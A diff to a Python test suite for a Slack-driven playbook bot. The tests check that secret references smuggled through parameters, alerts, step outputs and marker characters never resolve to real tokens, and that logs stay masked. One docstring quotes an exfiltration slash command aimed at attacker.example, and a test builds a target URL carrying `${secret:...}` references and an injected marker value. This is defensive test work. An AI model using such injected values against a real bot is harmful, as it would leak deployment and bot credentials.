@@ -30,7 +30,11 @@ from bot.engine.worker import make_worker, worker_deps
 from bot.engine.workflow import PlaybookRun
 from bot.playbook.loader import load_text
 from bot.settings import Settings
+from bot.slack.commands import slack_run_id
 from tests.http_server import serving
+from tests.slack.fake_slack import FakeSlack
+from tests.slack.support import finished, slack_stack, text_of
+from tests.waiting import eventually
 
 DEPLOY = 'dply-7Q2x/+=?&"tok~>>?'  # every encoding below spells it differently
 SLACK = "xoxb-bot-token-not-for-playbooks-31337"
@@ -42,6 +46,12 @@ POLICY = """package playbook.authz
 import rego.v1
 
 default decision := {"allow": true, "require_approval": false, "min_approvals": 0, "approver_groups": [], "reasons": []}
+
+# Policy sees the display text, never a marker: a high-impact step is allowed only when it does.
+decision := {"allow": false, "require_approval": false, "min_approvals": 0, "approver_groups": [], "reasons": ["no display text"]} if {
+	input.step.impact == "high"
+	input.step["with"].headers["X-Legit"] != "${secret:DEPLOY_TOKEN}"
+}
 
 default approver := {"allow": false, "reasons": []}
 
@@ -197,6 +207,7 @@ def assert_nothing_leaked(sink: Sink) -> None:
 
 PARAMS_PB = """
 name: exfil-params
+secrets: [DEPLOY_TOKEN]
 params:
   target: {type: string}
   note: {type: string, default: ""}
@@ -223,6 +234,7 @@ async def test_a_param_spelling_a_reference_reaches_no_secret(bot: Bot, sink: Si
 
 ALERT_PB = """
 name: exfil-alert
+secrets: [DEPLOY_TOKEN]
 params:
   sink: {type: string}
   service: {type: string}
@@ -261,6 +273,7 @@ async def test_alert_labels_and_annotations_spelling_a_reference_reach_no_secret
 
 OUTPUT_PB = """
 name: exfil-output
+secrets: [DEPLOY_TOKEN]
 params:
   sink: {type: string}
 steps:
@@ -290,11 +303,13 @@ async def test_a_step_output_spelling_a_reference_reaches_no_secret(bot: Bot, si
 
 REQUESTER_PB = """
 name: exfil-requester
+secrets: [DEPLOY_TOKEN]
 params:
   sink: {type: string}
 steps:
   - id: call
     action: http.request
+    impact: high                      # policy sees the arguments too
     with:
       method: POST
       url: "{{ params.sink }}/by"
@@ -307,14 +322,45 @@ steps:
 async def test_requested_by_spelling_a_reference_reaches_no_secret(bot: Bot, sink: Sink) -> None:
     status, _ = await bot.run(REQUESTER_PB, {"sink": sink.url}, requested_by="cli:" + SPELLED)
     assert status.state == "completed", status.error
+    call = status.step("call")
+    assert call.decision and call.decision["allow"], "policy saw `${secret:DEPLOY_TOKEN}`, as people do"
+    assert call.args and call.args["headers"] == {"X-Legit": "${secret:DEPLOY_TOKEN}"}
     assert_nothing_leaked(sink)
     assert sink.legit() == [DEPLOY]
+
+
+async def test_the_slash_command_attack_from_the_issue(
+    dev_env, fake_slack: FakeSlack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sink: Sink
+) -> None:
+    """`/playbook run ... target=https://attacker.example/${secret:...}` through the real front door."""
+    monkeypatch.setenv("PLAYBOOK_BOT_SECRET_DEPLOY_TOKEN", DEPLOY)  # the variable source, this time
+    monkeypatch.setenv("PLAYBOOK_BOT_SLACK_BOT_TOKEN", SLACK)
+    target = f"{sink.url}/in/${{secret:DEPLOY_TOKEN}}?s=${{secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}}"
+    note = "\ue0000:DEPLOY_TOKEN\ue001"
+    async with slack_stack(dev_env.client, fake_slack, tmp_path, playbooks={"exfil-params": PARAMS_PB}) as stack:
+        body, key = stack.command(f"dry-run exfil-params target={target} note={note}")
+        assert (await stack.post(body)).status_code == 200
+        shown = text_of(await stack.answers(key))
+        assert '"X-Legit": "${secret:DEPLOY_TOKEN}"' in shown, shown  # what the template's own call shows as
+        assert "\ufffd0:DEPLOY_TOKEN\ufffd" in shown and "\ue000" not in shown  # the param's marker is inert
+
+        trigger = f"{int(datetime.now().timestamp())}.7.{uuid.uuid4().hex[:20]}"
+        body, key = stack.command(f"run exfil-params target={target} note={note}", trigger_id=trigger)
+        assert (await stack.post(body)).status_code == 200
+        status = await eventually(lambda: finished(stack, slack_run_id("exfil-params", trigger)), what="run finished")
+        slack_text = json.dumps([m.__dict__ for m in stack.fake.messages], ensure_ascii=False)
+    assert slack_text != "[]", "the run was shown in Slack: the check below is not vacuous"
+    assert status.state == "completed", status.error
+    assert_nothing_leaked(sink)
+    assert sink.legit() == [DEPLOY]
+    assert found_in(slack_text, DEPLOY) == [] and SLACK not in slack_text
 
 
 # -- the bot's own credentials are no playbook secrets ---------------------------------------------
 
 SETTINGS_PB = """
 name: read-settings
+secrets: [PLAYBOOK_BOT_SLACK_BOT_TOKEN]  # declaring it does not make the bot's own setting readable
 params:
   sink: {type: string}
 steps:
@@ -341,6 +387,7 @@ async def test_the_bots_own_slack_token_is_not_readable_as_a_secret(bot: Bot, si
 
 MASK_PB = """
 name: mask-forms
+secrets: [DEPLOY_TOKEN]
 params:
   sink: {type: string}
 steps:
@@ -381,4 +428,7 @@ async def test_every_encoded_form_is_masked_in_output_error_history_and_audit(bo
     raw = b"".join(e.SerializeToString() for e in history.events)
     text = raw.decode("utf-8", "replace") + history.to_json()
     assert found_in(text, DEPLOY) == [], "a secret value entered the workflow history"
-    assert found_in(bot.audit_text(status.run_id), DEPLOY) == []
+    audit = bot.audit_text(status.run_id)
+    assert found_in(audit, DEPLOY) == []
+    assert '"t": "${secret:DEPLOY_TOKEN}"' in audit, "step_started shows the arguments with display text"
+    assert ok.args and ok.args["json"] == {"t": "${secret:DEPLOY_TOKEN}"}
